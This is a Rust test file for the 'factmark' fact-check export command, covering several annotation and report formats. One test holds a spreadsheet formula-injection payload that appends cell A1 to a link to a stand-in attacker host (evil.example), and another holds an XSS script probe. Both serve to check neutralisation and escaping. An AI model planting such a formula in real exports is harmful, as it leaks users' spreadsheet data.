//! `factmark export` and `factmark import --from`: golden files for every format on a
//! fixture with CJK, emoji ZWJ sequences, flags, combining marks, overlapping claims and
//! text that needs escaping in CSV, JSON and HTML; structural checks of what other tools
//! rely on; round trips through the importers; refusals.
//!
//! `FACTMARK_UPDATE_GOLDEN=1 cargo test --test cli export` rewrites the golden files; review
//! the diff before committing it.

use std::path::PathBuf;

use factmark::model::{Claim, Document, Verdict};
use serde_json::Value;

use crate::util::{Dir, repo};

const FORMATS: [(&str, &str); 6] = [
    ("w3c", "fixture.w3c.jsonld"),
    ("claimreview", "fixture.claimreview.jsonld"),
    ("csv", "fixture.csv"),
    ("jsonl", "fixture.jsonl"),
    ("label-studio", "fixture.label-studio.json"),
    ("html", "fixture.report.html"),
];
const REVIEW_URL: &str = "https://example.org/checks/springfield";

fn data(name: &str) -> PathBuf {
    repo().join("tests/data/export").join(name)
}

fn fixture() -> Document {
    factmark::format::load_file(&data("fixture.factmark.json"))
        .into_valid()
        .expect("the fixture is valid")
}

/// Exports the fixture with the real binary (publisher and review URL given).
fn export(dir: &Dir, format: &str) -> String {
    let fixture = data("fixture.factmark.json");
    let run = dir.run(&[
        "export",
        fixture.to_str().expect("utf-8 path"),
        "--format",
        format,
        "--publisher",
        "Example Checks",
        "--review-url",
        REVIEW_URL,
    ]);
    run.assert_code(0);
    run.stdout
}

#[test]
fn every_format_matches_its_golden_file() {
    let dir = Dir::new();
    for (format, golden) in FORMATS {
        crate::util::golden(format, &data(golden), &export(&dir, format));
    }
}

fn json(text: &str) -> Value {
    serde_json::from_str(text).expect("valid JSON")
}

fn chars(text: &str, range: std::ops::Range<usize>) -> String {
    text.chars()
        .skip(range.start)
        .take(range.end - range.start)
        .collect()
}

#[test]
fn w3c_quotes_match_the_text_at_their_positions() {
    let document = fixture();
    let text = document.text().as_str();
    let out = json(&export(&Dir::new(), "w3c"));
    assert_eq!(out["@context"], "http://www.w3.org/ns/anno.jsonld");
    assert_eq!(out["type"], "AnnotationCollection");
    let items = out["first"]["items"].as_array().expect("items");
    assert_eq!(out["first"]["type"], "AnnotationPage");
    assert_eq!(items.len(), document.claims().len());
    assert_eq!(out["total"], items.len());
    for (item, claim) in items.iter().zip(document.claims()) {
        assert_eq!(item["type"], "Annotation");
        assert_eq!(item["motivation"], "assessing");
        assert_eq!(item["id"], format!("urn:uuid:{}", claim.id));
        let target = &item["target"];
        assert_eq!(target["source"], document.article.url);
        let selectors = target["selector"].as_array().expect("selectors");
        let of = |kind: &str| {
            selectors
                .iter()
                .find(|s| s["type"] == kind)
                .unwrap_or_else(|| panic!("{kind} in {item}"))
        };
        let position = of("TextPositionSelector");
        let quote = of("TextQuoteSelector");
        let (start, end) = (
            position["start"].as_u64().expect("start") as usize,
            position["end"].as_u64().expect("end") as usize,
        );
        assert_eq!(
            quote["exact"].as_str(),
            Some(chars(text, start..end).as_str())
        );
        assert_eq!((start, end), (claim.start, claim.end));
        let prefix = quote["prefix"].as_str().expect("prefix");
        assert!(chars(text, 0..start).ends_with(prefix));
        let bodies = item["body"].as_array().expect("bodies");
        let verdict = bodies
            .iter()
            .find(|b| b["purpose"] == "classifying")
            .expect("verdict");
        assert_eq!(verdict["value"], claim.verdict.as_str());
        let links: Vec<&str> = bodies
            .iter()
            .filter(|b| b["purpose"] == "linking")
            .map(|b| {
                assert_eq!(b["type"], "SpecificResource", "{b}");
                b["source"].as_str().expect("link")
            })
            .collect();
        let urls: Vec<String> = claim
            .sources
            .iter()
            .map(|s| factmark::ops::export::iri_to_uri(&s.url))
            .collect();
        assert_eq!(links, urls);
    }
}

#[test]
fn claimreview_has_every_required_field_for_judged_claims_only() {
    let document = fixture();
    let out = json(&export(&Dir::new(), "claimreview"));
    let reviews = out.as_array().expect("an array");
    let judged: Vec<&Claim> = document
        .claims()
        .iter()
        .filter(|c| c.verdict != Verdict::UNREVIEWED)
        .collect();
    assert_eq!(reviews.len(), judged.len());
    for (review, claim) in reviews.iter().zip(judged) {
        assert_eq!(review["@context"], "https://schema.org");
        assert_eq!(review["@type"], "ClaimReview");
        assert_eq!(review["url"], format!("{REVIEW_URL}#{}", claim.id));
        let claimed = review["claimReviewed"].as_str().expect("claimReviewed");
        assert!(
            !claimed.is_empty() && claimed.chars().count() < 75,
            "{claimed}"
        );
        assert!(!claimed.contains('\n'));
        let rating = &review["reviewRating"];
        let name = rating["alternateName"].as_str().expect("alternateName");
        assert!(
            !claimed.to_lowercase().contains(&name.to_lowercase()),
            "the verdict is not part of the claim: {claimed}"
        );
        let (value, expected_name) = match claim.verdict.as_str() {
            "inaccurate" => (1, "Inaccurate"),
            "disputed" => (2, "Disputed"),
            "verified" => (3, "Verified"),
            other => unreachable!("{other} is left out"),
        };
        assert_eq!(
            (rating["ratingValue"].as_u64(), name),
            (Some(value), expected_name)
        );
        assert_eq!(rating["bestRating"], 3);
        assert_eq!(rating["worstRating"], 1);
        assert_eq!(review["author"]["name"], "Example Checks");
        assert_eq!(review["author"]["@type"], "Organization");
        assert_eq!(review["datePublished"], "2026-11-21");
        assert_eq!(review["itemReviewed"]["@type"], "Claim");
        let appearance = &review["itemReviewed"]["appearance"];
        assert_eq!(
            appearance["url"], document.article.url,
            "the given URL first"
        );
        assert_eq!(appearance["headline"], document.article.title);
        assert_eq!(appearance["author"]["@type"], "Person");
        assert_eq!(appearance["author"]["name"], document.article.meta.author);
        assert_eq!(appearance["datePublished"], document.article.meta.published);
        assert_eq!(appearance["publisher"]["@type"], "Organization");
        assert_eq!(
            appearance["publisher"]["name"],
            document.article.meta.publisher
        );
    }
}

/// The fixture with `edit` applied, saved in `dir` as `name`.
fn fixture_with(dir: &Dir, name: &str, edit: impl FnOnce(&mut Document)) -> String {
    let mut document = fixture();
    edit(&mut document);
    let path = dir.path(name);
    factmark::format::save(&document, &path).expect("saves");
    path.to_str().expect("utf-8 path").to_owned()
}

#[test]
fn the_page_metadata_reaches_every_export_that_has_a_place_for_it() {
    let dir = Dir::new();
    // No URL given: the page's canonical address is the article's address.
    let file = fixture_with(&dir, "canonical.factmark.json", |d| d.article.url.clear());
    let out = |format: &str| {
        let run = dir.run(&["export", &file, "--format", format]);
        run.assert_code(0);
        run.stdout
    };
    let canonical = fixture().article.meta.canonical_url;
    let w3c = json(&out("w3c"));
    for item in w3c["first"]["items"].as_array().expect("items") {
        assert_eq!(item["target"]["source"], canonical.as_str());
    }
    let reviews = json(&out("claimreview"));
    for review in reviews.as_array().expect("array") {
        assert_eq!(
            review["itemReviewed"]["appearance"]["url"],
            canonical.as_str()
        );
    }
    let ls = json(&out("label-studio"));
    assert_eq!(ls[0]["data"]["url"], canonical.as_str());

    let report = out("html");
    assert!(
        report.contains(
            "<p class=\"byline\">By Jane &lt;Doe&gt; &amp; Co · Springfield Shopper · \
             Published 2026-09-03T08:00:00Z · Updated 2026-09-04</p>"
        ),
        "{report}"
    );
    assert!(report.contains(&format!("Source: {canonical}")));
    assert!(report.contains("<div class=\"article\" dir=\"auto\" lang=\"en\">"));

    // Nothing known of the page: no appearance, no byline, the text's hash as the source.
    let bare = fixture_with(&dir, "bare.factmark.json", |d| {
        d.article.url.clear();
        d.article.meta = factmark::text::Meta::default();
    });
    let run = dir.run(&["export", &bare, "--format", "claimreview"]);
    for review in json(&run.stdout).as_array().expect("array") {
        assert!(
            review["itemReviewed"].get("appearance").is_none(),
            "{review:#}"
        );
    }
    assert!(
        run.stderr
            .contains("itemReviewed.appearance.url (recommended) left out")
    );
    let run = dir.run(&["export", &bare, "--format", "w3c"]);
    assert!(
        json(&run.stdout)["first"]["items"][0]["target"]["source"]
            .as_str()
            .expect("source")
            .starts_with("urn:sha256:")
    );
    let run = dir.run(&["export", &bare, "--format", "html"]);
    assert!(!run.stdout.contains("class=\"byline\""));
}

#[test]
fn claimreview_reports_what_it_cannot_know_instead_of_inventing_it() {
    let dir = Dir::new();
    let fixture = data("fixture.factmark.json");
    let run = dir.run(&[
        "export",
        fixture.to_str().expect("path"),
        "--format",
        "claimreview",
    ]);
    run.assert_code(0);
    assert!(
        run.stderr.contains("url (required) left out of 5 reviews"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("--review-url"));
    assert!(run.stderr.contains("author (recommended) left out"));
    assert!(run.stderr.contains("1 unreviewed claims left out"));
    let reviews = json(&run.stdout);
    for review in reviews.as_array().expect("array") {
        assert!(review.get("url").is_none());
        assert!(review.get("author").is_none());
    }
}

#[test]
fn csv_reads_back_whole_in_rust_and_python() {
    let document = fixture();
    let dir = Dir::new();
    let out = export(&dir, "csv");
    assert!(out.ends_with("\r\n"), "RFC 4180 line ends");
    let mut reader = csv::Reader::from_reader(out.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        header,
        [
            "id",
            "start",
            "end",
            "verdict",
            "exact",
            "rationale",
            "sources",
            "created_by",
            "created_at",
            "modified_by",
            "modified_at"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    assert_eq!(rows.len(), document.claims().len());
    for (row, claim) in rows.iter().zip(document.claims()) {
        assert_eq!(&row[0], claim.id.as_str());
        assert_eq!(row[1].parse::<usize>().ok(), Some(claim.start));
        assert_eq!(row[2].parse::<usize>().ok(), Some(claim.end));
        assert_eq!(&row[3], claim.verdict.as_str());
        assert_eq!(&row[4], document.exact(claim));
        assert_eq!(&row[5], claim.rationale);
        let urls: Vec<&str> = claim.sources.iter().map(|s| s.url.as_str()).collect();
        assert_eq!(&row[6], urls.join(" "));
    }

    // Python's csv module sees the same cells (quotes, commas, line breaks, tabs).
    let path = dir.write("claims.csv", &out);
    let python = std::process::Command::new("python3")
        .args([
            "-c",
            "import csv, json, sys\n\
             with open(sys.argv[1], newline='', encoding='utf-8') as f:\n    \
                 print(json.dumps(list(csv.reader(f))))",
        ])
        .arg(&path)
        .output()
        .expect("python3 runs (the CI machine has it)");
    assert!(
        python.status.success(),
        "{}",
        String::from_utf8_lossy(&python.stderr)
    );
    let cells: Vec<Vec<String>> = serde_json::from_slice(&python.stdout).expect("json");
    let ours: Vec<Vec<String>> = std::iter::once(header)
        .chain(rows.iter().map(|r| r.iter().map(str::to_owned).collect()))
        .collect();
    assert_eq!(cells, ours);
}

#[test]
fn jsonl_is_one_line_with_code_point_labels() {
    let document = fixture();
    let out = export(&Dir::new(), "jsonl");
    assert_eq!(out.lines().count(), 1);
    let line = json(&out);
    assert_eq!(line["text"], document.text().as_str());
    let labels = line["label"].as_array().expect("labels");
    let expected: Vec<Value> = document
        .claims()
        .iter()
        .map(|c| serde_json::json!([c.start, c.end, c.verdict.as_str()]))
        .collect();
    assert_eq!(labels, &expected);
}

#[test]
fn label_studio_offsets_are_utf16_units_as_its_browser_counts() {
    let document = fixture();
    let text = document.text().as_str();
    let utf16: Vec<u16> = text.encode_utf16().collect();
    let out = json(&export(&Dir::new(), "label-studio"));
    let task = &out[0];
    assert_eq!(task["data"]["text"], text);
    let results = task["annotations"][0]["result"]
        .as_array()
        .expect("results");
    let labels: Vec<&Value> = results.iter().filter(|r| r["type"] == "labels").collect();
    assert_eq!(labels.len(), document.claims().len());
    // The last claim comes after an emoji family and a flag: 5 astral characters, so its
    // UTF-16 offsets are its code-point offsets plus 5.
    let last = document.claims().last().expect("claims");
    assert!(last.exact_in(text).starts_with("Back"));
    let region = labels
        .iter()
        .find(|r| r["id"] == last.id.as_str())
        .expect("region");
    assert_eq!(
        region["value"]["start"].as_u64(),
        Some(last.start as u64 + 5)
    );
    for region in labels {
        let value = &region["value"];
        let (start, end) = (
            value["start"].as_u64().expect("start") as usize,
            value["end"].as_u64().expect("end") as usize,
        );
        // What JavaScript's text.substring(start, end) gives is the region's text.
        let js_substring = String::from_utf16(&utf16[start..end]).expect("on boundaries");
        assert_eq!(value["text"].as_str(), Some(js_substring.as_str()));
    }
}

/// A claim's text, for tests.
trait ExactIn {
    fn exact_in(&self, text: &str) -> String;
}

impl ExactIn for Claim {
    fn exact_in(&self, text: &str) -> String {
        chars(text, self.start..self.end)
    }
}

#[test]
fn the_html_report_is_inert_and_self_contained() {
    let document = fixture();
    let out = export(&Dir::new(), "html");
    let html = scraper::Html::parse_document(&out);
    let select = |css: &str| scraper::Selector::parse(css).expect("selector");
    assert_eq!(html.select(&select("script")).count(), 0);
    for tag in ["link", "img", "iframe", "object", "embed", "base", "form"] {
        assert_eq!(html.select(&select(tag)).count(), 0, "<{tag}>");
    }
    let sources: Vec<&str> = document
        .claims()
        .iter()
        .flat_map(|c| c.sources.iter().map(|s| s.url.as_str()))
        .collect();
    for element in html.select(&select("*")) {
        for (name, value) in element.value().attrs() {
            assert!(!name.starts_with("on"), "event handler {name}");
            assert_ne!(name, "src");
            assert!(!value.contains("url("), "no external resources in styles");
            if name == "href" {
                assert!(
                    value.starts_with("#claim-") || sources.contains(&value),
                    "unexpected link {value}"
                );
            }
        }
    }
    let style: String = html
        .select(&select("style"))
        .map(|s| s.inner_html())
        .collect();
    assert!(!style.contains("@import") && !style.contains("http"));
    // The article's text, markup included, is shown as text.
    let article: String = html
        .select(&select("div.article"))
        .next()
        .expect("the article")
        .text()
        .collect::<String>();
    assert!(article.contains("<script>alert('x')</script>"));
    assert!(
        !out.contains("<script>"),
        "the markup is escaped in the file"
    );
    assert_eq!(
        html.select(&select("ol.claims > li")).count(),
        document.claims().len()
    );
    assert!(
        html.select(&select("div.article mark.d2")).count() > 0,
        "overlaps are marked"
    );
    let title: String = html
        .select(&select("title"))
        .next()
        .expect("title")
        .text()
        .collect();
    assert_eq!(title, format!("Fact-check: {}", document.article.title));
}

/// LibreOffice Calc opens the CSV (UTF-8, every column as text) and saves it again as CSV:
/// every cell comes back the same. Needs `soffice` (Debian: libreoffice-calc-nogui);
/// `.ci/run` installs it and runs this test.
#[test]
#[ignore = "needs LibreOffice (soffice); .ci/run installs it and runs this"]
fn csv_survives_a_round_trip_through_libreoffice() {
    let dir = Dir::new();
    let csv = dir.write("claims.csv", export(&dir, "csv"));
    let columns: Vec<String> = (1..=11).map(|c| format!("{c}/2")).collect();
    let profile = format!("file://{}", dir.path("profile").display());
    let output = std::process::Command::new("soffice")
        .arg(format!("-env:UserInstallation={profile}"))
        .arg("--headless")
        // Comma, double quote, UTF-8 (76), from line 1, every column as text (2).
        .arg(format!("--infilter=CSV:44,34,76,1,{}", columns.join("/")))
        .args(["--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1"])
        .arg("--outdir")
        .arg(dir.path("out"))
        .arg(&csv)
        .output()
        .expect("soffice runs");
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let cells = |text: &str| -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes())
            .records()
            .map(|r| r.expect("row").iter().map(str::to_owned).collect())
            .collect()
    };
    let ours = cells(&dir.read("claims.csv"));
    let theirs = cells(&dir.read("out/claims.csv"));
    assert_eq!(ours.len(), fixture().claims().len() + 1);
    assert_eq!(theirs, ours);
}

#[test]
fn an_article_exports_the_annotations_made_on_its_text_and_nothing_else() {
    let dir = Dir::new();
    let document = fixture();
    dir.write("report.txt", document.text().as_str());
    // No annotations yet: an empty set, as the app would open it.
    let run = dir.run(&["export", "report.txt", "--format", "jsonl"]);
    run.assert_code(0);
    assert!(run.stdout.contains("\"label\":[]"), "{}", run.stdout);

    // The fixture's annotations beside it, made on the same text, are exported.
    std::fs::copy(
        data("fixture.factmark.json"),
        dir.path("report.factmark.json"),
    )
    .expect("copy");
    let by_article = dir.run(&["export", "report.txt", "--format", "jsonl"]);
    by_article.assert_code(0);
    let by_file = dir.run(&["export", "report.factmark.json", "--format", "jsonl"]);
    assert_eq!(by_article.stdout, by_file.stdout);
    assert!(!document.claims().is_empty());

    // The article changed since: its old annotations are not exported onto other words.
    dir.write("report.txt", "Another text altogether.\n");
    dir.assert_refused(
        &["export", "report.txt", "--format", "jsonl"],
        "made on a different text",
    );
}

/// A rationale or quote that a spreadsheet would run as a formula is written as text by
/// default (a leading '), and as it is with --csv-formulas.
#[test]
fn csv_cells_that_would_run_as_formulas_are_neutralised_unless_asked() {
    let dir = Dir::new();
    let mut document = fixture();
    let hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click for sources\")";
    let mut claim = document.claims()[0].clone();
    claim.rationale = hostile.to_owned();
    document.replace_claim(claim).expect("replaced");
    let file = dir.path("hostile.factmark.json");
    factmark::format::save(&document, &file).expect("saved");
    let read = |extra: &[&str]| {
        let mut args = vec!["export", file.to_str().expect("utf-8"), "--format", "csv"];
        args.extend_from_slice(extra);
        let run = dir.run(&args);
        run.assert_code(0);
        let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
        let row = reader.records().next().expect("a row").expect("row");
        row.get(5).expect("rationale").to_owned()
    };
    assert_eq!(read(&[]), format!("'{hostile}"));
    assert_eq!(read(&["--csv-formulas"]), hostile);
}
